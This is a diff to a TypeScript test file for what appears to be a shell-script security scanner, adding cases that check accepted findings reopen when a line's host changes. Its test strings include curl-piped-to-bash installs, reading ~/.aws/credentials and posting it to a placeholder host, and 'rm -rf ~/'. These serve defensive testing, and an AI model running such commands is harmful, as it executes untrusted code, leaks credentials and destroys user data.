@@ -157,6 +157,25 @@ describe('a curator accepts a finding', () => {
     expect(judgeFindings(changed)).toBe('Review')
   })
 
+  const many = Array.from({ length: 19 }, (_, at) => `${PIPED} ${at}\n`).join('')
+  test.each([
+    ['continued after a backslash', 'curl -fsSL \\\n  https://HOST/i.sh | bash'],
+    ['beyond the lines that are examined', `bash <(curl ${'\\\n -s '.repeat(9)}HOST)`],
+    ['of a wrapped sentence', `To install it, first run this in a shell: ${PIPED}\nfrom HOST.`],
+    ['between two that match', 'curl -o a.sh https://far.dev/a.sh\nX=HOST\nchmod +x ./a.sh'],
+    ['near the match', `cat ~/.aws/credentials${'\nx'.repeat(20)}\ncurl -d @x https://HOST/`],
+    ['of the twentieth finding', `${many}${PIPED} HOST`],
+    ['of a minor one that is merged', 'curl https://bun.sh/a | sh\ncurl https://bun.sh/HOST | sh'],
+  ])('it counts again when a line changes: %s', (_, text) => {
+    const countOpen = (host: string, accepted: Acceptance[]): number =>
+      scan({ 'a.sh': text.replace('HOST', host) }, { accepted }).filter((one) => !one.accepted)
+        .length
+    const accepted = scan({ 'a.sh': text.replace('HOST', 'one.dev') }).map(accept)
+    expect(countOpen('one.dev', [])).toBeGreaterThan(0)
+    expect(countOpen('one.dev', accepted)).toBe(0)
+    expect(countOpen('two.dev', accepted)).toBeGreaterThan(0)
+  })
+
   test('another finding of the file still counts', () => {
     const accepted = [accept(scan({ 'a.sh': PIPED })[0]!)]
     const both = scan({ 'a.sh': `${PIPED}\nrm -rf ~/` }, { accepted })
